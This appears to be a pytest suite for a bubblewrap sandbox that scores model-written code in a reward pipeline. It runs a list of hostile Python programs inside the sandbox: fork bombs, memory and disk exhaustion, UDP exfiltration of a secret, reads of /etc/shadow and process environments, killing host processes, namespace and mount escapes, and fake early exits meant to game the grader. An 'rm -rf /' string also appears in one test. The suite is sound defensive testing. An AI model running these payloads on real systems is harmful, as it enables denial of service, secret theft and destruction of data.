"""The bubblewrap sandbox: limits, unit-test scoring, and a suite of hostile programs.

Each hostile program attacks first and only then defines a correct `add`, so it would score
1.0 exactly when the attack got through; contained, it scores 0 with the reason. After each
one the same sandbox still grades a correct solution 1.0, the host is checked for damage
(files, a victim process, leftover sandbox processes), and a RewardPool running
`code_reward` keeps serving after the worst of them.
"""

import ast
import json
import os
import re
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from dataclasses import replace
from pathlib import Path

import pytest

from areal_core.reward import sandbox as sandbox_mod
from areal_core.reward.code import code_reward, extract_code
from areal_core.reward.grading import run_tests
from areal_core.reward.pool import RewardPool
from areal_core.reward.sandbox import Limits, Sandbox, SandboxUnavailable, explain
from task_data import code_tasks
from tests.conftest import ROOT, baseline_s, scaled

HAVE_BWRAP = shutil.which("bwrap") is not None

# wall_s is the module sandbox's: scaled by the `sb` fixture to what loading a program and
# running its tests takes here now (issue 46), 3 s at least; every other limit is fixed
LIMITS = Limits(wall_s=3.0, cpu_s=1, memory_mb=128, nproc=16, fsize_mb=1, tmp_mb=4)
ADD_TESTS = ["assert add(1, 2) == 3", "assert add(-1, 1) == 0"]
GOOD = "def add(a, b):\n    return a + b\n"
SECRET = "AREAL_FAKE_SECRET"
SECRET_VALUE = "s3cr3t-do-not-leak-7f1c"
SANDBOX_UID = 65534


@pytest.fixture(scope="module")
def sb():
    """The module's sandbox. Its wall clock also bounds a legitimate program's start and load
    (bwrap, the interpreter, the test process), so it is scaled to that work on this machine."""
    if not HAVE_BWRAP:
        pytest.skip("bubblewrap not installed")
    probe = Sandbox(replace(LIMITS, wall_s=60))
    took = baseline_s(lambda: run_tests(probe, GOOD, ADD_TESTS))
    return Sandbox(replace(LIMITS, wall_s=round(scaled(LIMITS.wall_s, took), 1)))


def sandbox_processes(exclude: set[int] = frozenset()) -> list[int]:
    """Host pids of live sandbox processes: bwrap of a sandbox run, or anything running as the sandbox uid."""
    out = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) in exclude:
            continue
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes()
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            continue
        if "\nState:\tZ" in status:
            continue  # dead, waiting for the container's init to reap it
        uid = int(next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1])
        if b"areal-sbx-" in cmd or (os.geteuid() == 0 and uid == SANDBOX_UID):
            out.append(int(pid))
    return out


def wait_no_sandbox_processes(timeout_s: float = 60.0, exclude: set[int] = frozenset()) -> list[int]:
    deadline = time.time() + timeout_s
    while (left := sandbox_processes(exclude)) and time.time() < deadline:
        time.sleep(0.05)
    return left


@pytest.fixture
def victim():
    """A process on the host running as the sandbox's uid: nothing inside may signal it."""
    kwargs = {"user": SANDBOX_UID, "group": SANDBOX_UID, "extra_groups": []} if os.geteuid() == 0 else {}
    proc = subprocess.Popen(["sleep", "3600"], **kwargs)  # outlives any test: only the fixture ends it
    yield proc
    proc.kill()
    proc.wait()


@pytest.fixture
def listener():
    """A TCP server on the host's loopback; counts connections it receives."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.setblocking(False)
    yield srv
    srv.close()


def accepted(srv: socket.socket) -> int:
    n = 0
    while True:
        try:
            conn, _ = srv.accept()
        except BlockingIOError:
            return n
        conn.close()
        n += 1


# name -> (attack code run before `add` is defined, regex its reason must match)
HOSTILE = {
    "fork_bomb": ("import os\nwhile True:\n    os.fork()\n", r"process limit"),
    "fork_bomb_that_ignores_errors": (
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
        r"timeout|cpu time",
    ),
    "thread_bomb": (
        "import threading, time\nfor _ in range(100000):\n"
        "    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n",
        r"process limit",
    ),
    "infinite_loop": ("while True:\n    pass\n", r"cpu time limit|timeout"),
    "infinite_loop_ignoring_sigxcpu": (
        "import signal\nsignal.signal(signal.SIGXCPU, signal.SIG_IGN)\nwhile True:\n    pass\n",
        r"killed by SIGKILL|timeout",
    ),
    "sleep_forever": ("import time\ntime.sleep(3600)\n", r"timeout: loading the program ran over {wall}s"),
    "memory_hog": ("x = bytearray(8 * 2**30)\n", r"memory limit"),
    "memory_creep": ("chunks = []\nwhile True:\n    chunks.append(bytearray(2**24))\n", r"memory limit"),
    "huge_output": ("while True:\n    print('x' * 65536)\n", r"file size limit"),
    "huge_stderr": ("import sys\nwhile True:\n    sys.stderr.write('y' * 65536)\n", r"file size limit: output"),
    "huge_file_in_tmp": (
        "with open('/tmp/big', 'wb') as f:\n    while True:\n        f.write(b'x' * 2**20)\n",
        r"file size limit",
    ),
    "fill_tmp": (
        "i = 0\nwhile True:\n    open(f'/tmp/f{{i}}', 'wb').write(b'x' * 2**19)\n    i += 1\n",
        r"no space left",
    ),
    "fill_dev_shm": (
        "i = 0\nwhile True:\n    open(f'/dev/shm/f{{i}}', 'wb').write(b'x' * 2**19)\n    i += 1\n",
        r"no space left",
    ),
    "connect_to_host_loopback": (
        "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2)\n",
        r"no network",
    ),
    "connect_to_internet": ("import socket\nsocket.create_connection(('1.1.1.1', 53), timeout=2)\n", r"no network"),
    "dns_lookup": ("import socket\nsocket.getaddrinfo('example.com', 80)\n", r"no network"),
    "udp_exfiltration": (
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('8.8.8.8', 53))\n",
        r"no network",
    ),
    "read_etc_shadow": ("open('/etc/shadow').read()\n", r"No such file.*/etc/shadow"),
    "read_etc_passwd": ("open('/etc/passwd').read()\n", r"No such file.*/etc/passwd"),
    "read_project_dir": ("open('{root}/pyproject.toml').read()\n", r"No such file.*pyproject"),
    "read_host_secret_file": ("open('{secret_file}').read()\n", r"No such file"),
    "list_root_home": ("import os\nos.listdir('/root')\n", r"No such file"),
    "read_sys": ("import os\nos.listdir('/sys')\n", r"No such file"),
    "read_dev_mem": ("open('/dev/mem', 'rb').read(1)\n", r"No such file"),
    "symlink_escape": (
        "import os\nos.symlink('/etc/shadow', '/tmp/s')\nopen('/tmp/s').read()\n",
        r"No such file",
    ),
    "see_host_processes": (
        "import os\npids = [p for p in os.listdir('/proc') if p.isdigit()]\nassert len(pids) > 5, pids\n",
        r"AssertionError: \['1', '2'\]",
    ),
    "write_system_dir": ("open('/usr/lib/pwned', 'w').write('x')\n", r"not permitted: .*(Read-only|Permission)"),
    "write_root": ("open('/pwned', 'w').write('x')\n", r"not permitted: .*Read-only"),
    "write_task_dir": ("open('/task/solution.py', 'w').write('x')\n", r"not permitted: .*Read-only"),
    "write_project_dir": (
        "import os\nos.makedirs('{root}/pwned', exist_ok=True)\nopen('{root}/pwned/x', 'w').write('x')\n",
        r"not permitted: .*Read-only",
    ),
    "read_env_secret": ("import os\nos.environ['{secret}']\n", r"KeyError: '{secret}'"),
    "scan_proc_environ_for_secret": (
        "import os\nfound = False\nfor p in os.listdir('/proc'):\n"
        "    try:\n        found |= b'{secret}' in open(f'/proc/{{p}}/environ', 'rb').read()\n"
        "    except OSError:\n        pass\nif not found:\n    raise RuntimeError('no secret anywhere')\n",
        r"RuntimeError: no secret anywhere",
    ),
    "kill_host_process": ("import os\nos.kill({victim}, 9)\n", r"ProcessLookupError"),
    "kill_parent_and_everyone": (
        "import os, signal\nos.kill(-1, signal.SIGKILL)\nos.kill(os.getppid(), signal.SIGKILL)\n",
        r"ProcessLookupError",
    ),
    "setuid_root": ("import os\nos.setuid(0)\n", r"Invalid argument|not permitted"),
    "nested_user_namespace": (
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nif libc.unshare(0x10000000) != 0:\n"
        "    e = ctypes.get_errno()\n    raise OSError(e, os.strerror(e))\n",
        r"No space left|not permitted",
    ),
    "mount_tmpfs": (
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "if libc.mount(b'none', b'/usr', b'tmpfs', 0, None) != 0:\n"
        "    e = ctypes.get_errno()\n    raise OSError(e, os.strerror(e))\n",
        r"not permitted",
    ),
    "segfault": ("import ctypes\nctypes.string_at(0)\n", r"crashed: killed by SIGSEGV"),
    "exit_zero_before_tests": ("import os\nos._exit(0)\n", r"left early \(exit code 0\)"),
    "sys_exit_zero": ("import sys\nsys.exit(0)\n", r"SystemExit: 0"),
    "print_fake_pass_token": (
        "import os\nprint('\\n' + '0' * 32)\nos._exit(0)\n",
        r"left early \(exit code 0\)",
    ),
}


def hostile_program(name: str, **values) -> str:
    attack, _ = HOSTILE[name]
    return attack.format(**values) + GOOD


@pytest.mark.parametrize("name", sorted(HOSTILE))
@pytest.mark.sandbox
@pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap not installed (.ci/run installs it)")
def test_hostile_program_is_contained(name, sb, tmp_path, victim, listener, monkeypatch):
    monkeypatch.setenv(SECRET, SECRET_VALUE)
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(SECRET_VALUE)
    secret_file.chmod(0o644)
    values = {
        "port": listener.getsockname()[1],
        "root": ROOT,
        "secret_file": secret_file,
        "secret": SECRET,
        "victim": victim.pid,
    }
    pattern = HOSTILE[name][1].format(**values, wall=f"{sb.limits.wall_s:g}")

    report = run_tests(sb, hostile_program(name, **values), ADD_TESTS, parallel=2)

    assert report.total == 2
    if name == "write_project_dir" and ROOT.is_relative_to("/tmp"):
        # a checkout under /tmp is hidden by the sandbox's private /tmp: the write lands there
        assert not (ROOT / "pwned").exists()
        return
    assert report.score == 0.0, report.results
    assert all(not r.ok for r in report.results)
    reasons = [r.reason for r in report.results]
    assert all(re.search(pattern, reason) for reason in reasons), reasons
    # a program that hangs is cut at its wall clock (it sleeps an hour), not let run
    assert all(r.wall_s < 2 * sb.limits.wall_s for r in report.results), report.results
    # the host is untouched
    assert victim.poll() is None, "a host process was killed"
    assert accepted(listener) == 0
    assert not (ROOT / "pwned").exists()
    assert not Path("/pwned").exists() and not Path("/usr/lib/pwned").exists()
    assert wait_no_sandbox_processes(exclude={victim.pid}) == []
    # and the sandbox keeps serving
    assert run_tests(sb, GOOD, ADD_TESTS).score == 1.0


@pytest.mark.sandbox
@pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap not installed (.ci/run installs it)")
def test_environment_is_empty_inside(sb, monkeypatch):
    monkeypatch.setenv(SECRET, SECRET_VALUE)
    res = sb.run("import os\nprint(sorted(os.environ))\nprint(open('/proc/1/environ').read())\nprint(os.getuid())")
    assert res.ok, res.reason
    assert SECRET not in res.stdout and SECRET_VALUE not in res.stdout
    names = ast.literal_eval(res.stdout.splitlines()[0])
    assert set(names) <= {"PATH", "HOME", "LANG", "PYTHONHASHSEED", "PWD"}
    if os.geteuid() == 0:
        assert res.stdout.splitlines()[-1] == str(SANDBOX_UID)


@pytest.mark.sandbox
@pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap not installed (.ci/run installs it)")
def test_scores_fraction_of_tests_passed(sb):
    program = "def add(a, b):\n    return a * b if a < 0 else a + b\n"
    tests = ADD_TESTS + ["assert add(-2, -2) == -4", "assert add(0, 5) == 5"]
    report = run_tests(sb, program, tests, parallel=2)
    assert (report.passed, report.total, report.score) == (2, 4, 0.5)
    assert [r.ok for r in report.results] == [True, False, False, True]
    # judged outside the sandbox, by value
    assert report.reasons() == [
        "assertion failed: add(-1, 1) == 0 (got -1)",
        "assertion failed: add(-2, -2) == -4 (got 4)",
    ]


@pytest.mark.sandbox
@pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap not installed (.ci/run installs it)")
def test_cpu_limit_fires_before_the_wall_clock(sb):
    res = sb.run("while True:\n    pass\n", limits=replace(LIMITS, wall_s=60))
    assert res.reason == "cpu time limit (1s) (SIGXCPU)", res
    assert not res.timed_out, res


@pytest.mark.sandbox
@pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap not installed (.ci/run installs it)")
def test_stdin_stdout_tests(sb):
    program = "a, b = map(int, input().split())\nprint(a + b)\n"
    tests = [{"stdin": "1 2\n", "stdout": "3"}, {"stdin": "5 5\n", "stdout": "11\n"}, {"stdin": "", "stdout": "0"}]
    report = run_tests(sb, program, tests)
    assert [r.ok for r in report.results] == [True, False, False]
    assert report.results[1].reason == "wrong output: '10'"
    assert "EOFError" in report.results[2].reason


@pytest.mark.sandbox
@pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap not installed (.ci/run installs it)")
def test_code_tests_share_one_load_of_the_program(sb, monkeypatch):
    """Four code tests of a program: one load (one session), not four. The program says on its
    stderr each time it is loaded; every session's stderr is read before its files go."""
    stderrs: list[str] = []
    close = sandbox_mod.Spawned.close

    def reading_close(self) -> None:
        stderrs.append(self.stderr_tail())
        close(self)

    monkeypatch.setattr(sandbox_mod.Spawned, "close", reading_close)
    program = "import os\nos.write(2, b'loaded\\n')\n" + GOOD
    report = run_tests(sb, program, ADD_TESTS * 2, parallel=2)
    assert report.score == 1.0, report.results
    assert len(stderrs) == 1 and "".join(stderrs).count("loaded") == 1, stderrs


@pytest.mark.sandbox
@pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap not installed (.ci/run installs it)")
def test_stdin_stdout_tests_run_in_parallel(sb, monkeypatch):
    """Four stdin/stdout tests sleeping 1 s each run two at a time with parallel=2: counted as the
    sandbox runs in flight together, not timed."""
    lock, in_flight, most = threading.Lock(), [0], [0]
    run = sb.run

    def counting_run(*args, **kwargs):
        with lock:
            in_flight[0] += 1
            most[0] = max(most[0], in_flight[0])
        try:
            return run(*args, **kwargs)
        finally:
            with lock:
                in_flight[0] -= 1

    monkeypatch.setattr(sb, "run", counting_run)
    program = "import time\ntime.sleep(1.0)\nprint(sum(map(int, input().split())))\n"
    t0 = time.monotonic()
    report = run_tests(sb, program, [{"stdin": "1 2\n", "stdout": "3"}] * 4, parallel=2)
    took = time.monotonic() - t0
    assert report.score == 1.0, report.results
    assert most[0] == 2  # two at a time (each run lasts a second: the two overlap), never more
    assert took >= 2.0, took  # four runs of a second, two at a time: two rounds at least


@pytest.mark.sandbox
@pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap not installed (.ci/run installs it)")
def test_every_code_task_canonical_solution_passes_and_a_stub_fails(sb):
    tasks = code_tasks.TASKS
    assert len(tasks) >= 12
    for task in tasks:
        good = run_tests(sb, task["solution"], task["tests"], parallel=2)
        assert good.score == 1.0, (task["name"], good.results)
        stub = run_tests(sb, "def stub(*a, **k):\n    return None\n", task["tests"][:1])
        assert stub.score == 0.0, task["name"]


def test_code_tasks_records():
    train, evals = code_tasks.load()
    names = {r["meta"]["task"] for r in train} | {r["meta"]["task"] for r in evals}
    assert len(names) == len(code_tasks.TASKS) >= 12
    assert not {r["meta"]["task"] for r in train} & {r["meta"]["task"] for r in evals}
    for r in train + evals:
        spec = json.loads(r["answer"])
        assert spec["tests"] and "```python" in r["prompt"]
        assert "solution" not in r["meta"] and "def " not in r["answer"].split("assert")[0]
    more, few = code_tasks.load(num_train=30, num_eval=2)
    assert len(more) == 30 and len(few) == 2
    assert len({r["prompt_id"] for r in more}) == 30


@pytest.mark.parametrize(
    "completion, code",
    [
        ("Here:\n```python\ndef f():\n    return 1\n```\nDone.", "def f():\n    return 1"),
        ("```py\nx = 1\n```\n```python\nx = 2\n```", "x = 2"),
        ("```\nprint(3)\n```", "print(3)"),
        ("```python\ndef f():\n    return 1", "def f():\n    return 1"),  # cut off by max tokens
        ("```bash\nrm -rf /\n```", None),
        ("def g(x):\n    return x", "def g(x):\n    return x"),
        ("I don't know.", None),
        ("```python\n\n```", None),
    ],
)
def test_extract_code(completion, code):
    assert extract_code(completion) == code


def test_missing_bubblewrap_is_a_clear_error(monkeypatch):
    monkeypatch.setattr(sandbox_mod.shutil, "which", lambda name: None)
    with pytest.raises(SandboxUnavailable, match="bubblewrap .* not installed.*never run without the sandbox"):
        Sandbox()
    # through the reward function: an error, never an unsandboxed run
    ref = json.dumps({"tests": ADD_TESTS, "limits": {"wall_s": 1.5}})
    monkeypatch.setattr("areal_core.reward.code._sandboxes", {})
    with pytest.raises(SandboxUnavailable):
        code_reward("```python\n" + GOOD + "```", ref)


def test_unusable_bubblewrap_is_a_clear_error(monkeypatch):
    folder = Path(tempfile.mkdtemp(prefix="fake-bwrap-"))
    try:
        folder.chmod(0o755)  # the sandbox uid must be able to run it
        fake = folder / "bwrap"
        fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to creating new namespace' >&2\nexit 1\n")
        fake.chmod(0o755)
        monkeypatch.setattr(sandbox_mod.shutil, "which", lambda name: str(fake))
        monkeypatch.setattr(sandbox_mod, "_PROBED", {})
        with pytest.raises(SandboxUnavailable, match="cannot build a sandbox here: bwrap: No permissions"):
            Sandbox()
    finally:
        shutil.rmtree(folder)


def test_explain_reasons():
    lim = Limits(wall_s=2, cpu_s=1)
    assert explain(0, "", False, lim) == ""
    assert explain(-9, "", True, lim) == "timeout: wall clock over 2s (sandbox killed)"
    assert explain(-24, "", False, lim).startswith("cpu time limit")  # SIGXCPU
    assert explain(152, "", False, lim) == "exit code 152"  # an exit code, not 128 + a signal
    assert explain(137, "", False, lim) == "exit code 137"
    assert explain(-9, "", False, lim) == "cpu time or memory limit: killed by SIGKILL"
    assert explain(-11, "", False, lim) == "crashed: killed by SIGSEGV"  # any signal, by its name
    assert explain(-99, "", False, lim) == "crashed: killed by 99"  # no such signal: its number
    assert explain(0, "", False, lim, output_over=True) == f"output over limit: more than {lim.output_bytes} bytes"
    assert explain(1, "Traceback\nMemoryError\n", False, lim) == "memory limit: MemoryError"
    assert explain(1, "bwrap: Can't mount proc", False, lim) == "sandbox error: bwrap: Can't mount proc"
    assert explain(3, "ValueError: x", False, lim) == "exit code 3: ValueError: x"


def test_limits_from_dict():
    assert Limits.from_dict({"wall_s": 9}).wall_s == 9
    with pytest.raises(ValueError, match="unknown sandbox limits"):
        Limits.from_dict({"walltime": 9})


# -- through the reward pool --------------------------------------------------------------


def _job(program: str, limits: dict | None = None) -> dict:
    # a generous wall clock: none of these programs hangs, and a correct one must load under load
    ref = {"tests": ADD_TESTS, "limits": limits or {"wall_s": 20, "cpu_s": 1, "memory_mb": 256, "fsize_mb": 1}}
    return {"completion": f"Sure:\n```python\n{program}```\n", "reference": json.dumps(ref), "meta": {}}


@pytest.mark.sandbox
@pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap not installed (.ci/run installs it)")
def test_pool_keeps_serving_through_hostile_programs(victim, monkeypatch):
    monkeypatch.setenv(SECRET, SECRET_VALUE)
    values = {"root": ROOT, "secret": SECRET, "victim": victim.pid, "port": 9, "secret_file": "/nope"}
    names = ["fork_bomb", "memory_hog", "huge_output", "kill_parent_and_everyone", "read_env_secret", "segfault"]
    jobs = []
    for name in names:
        jobs += [_job(hostile_program(name, **values)), _job(GOOD)]
    with RewardPool("areal_core.reward.code:code_reward", size=2, timeout_s=60, retries=0) as pool:
        results = pool.grade(jobs)
        assert [r.reward for r in results] == [0.0, 1.0] * len(names)
        for name, res in zip(names, results[::2]):
            assert res.info["passed"] == 0 and res.info["total"] == 2
            assert res.info["failures"], name
        assert pool.stats["crashes"] == 0 and pool.stats["timeouts"] == 0
        assert [r.reward for r in pool.grade([_job(GOOD)] * 3)] == [1.0] * 3
    assert victim.poll() is None
    assert wait_no_sandbox_processes(exclude={victim.pid}) == []


@pytest.mark.sandbox
@pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap not installed (.ci/run installs it)")
def test_pool_timeout_takes_the_sandbox_down_with_the_reward_process():
    """The pool kills a reward process stuck on a long sandbox run; bwrap and everything in it go too."""
    slow = _job("import time\ntime.sleep(600)\n" + GOOD, {"wall_s": 600, "cpu_s": 1})
    with RewardPool("areal_core.reward.code:code_reward", size=1, timeout_s=1.5, retries=0) as pool:
        t0 = time.monotonic()
        res = pool.grade([slow])[0]
        assert time.monotonic() - t0 < 300  # far under the program's 600 s: the pool's timeout ended it
        assert res.reward == 0.0 and "timeout" in res.info["error"]
        assert wait_no_sandbox_processes() == []
        pool.timeout_s = 60  # a correct program next: the limit only has to catch a hang
        assert pool.grade([_job(GOOD)])[0].reward == 1.0


@pytest.mark.sandbox
@pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap not installed (.ci/run installs it)")
def test_code_reward_info():
    wrong = "```python\ndef add(a, b):\n    return a - b\n```"
    out = code_reward(wrong, json.dumps({"tests": ADD_TESTS + ["assert add(0, 0) == 0"]}))
    assert out["reward"] == pytest.approx(1 / 3)
    assert out["info"]["passed"] == 1 and out["info"]["total"] == 3
    assert out["info"]["failures"] == [
        "assertion failed: add(1, 2) == 3 (got -1)",
        "assertion failed: add(-1, 1) == 0 (got -2)",
    ]
    assert code_reward("no code", json.dumps({"tests": ADD_TESTS}))["info"]["error"].startswith("no code")
    assert code_reward(wrong, "#### 3")["info"]["error"] == "the task has no tests"
    # tests may come from meta when the reference is not a JSON spec
    assert code_reward("```python\n" + GOOD + "```", "", meta={"tests": ADD_TESTS})["reward"] == 1.0
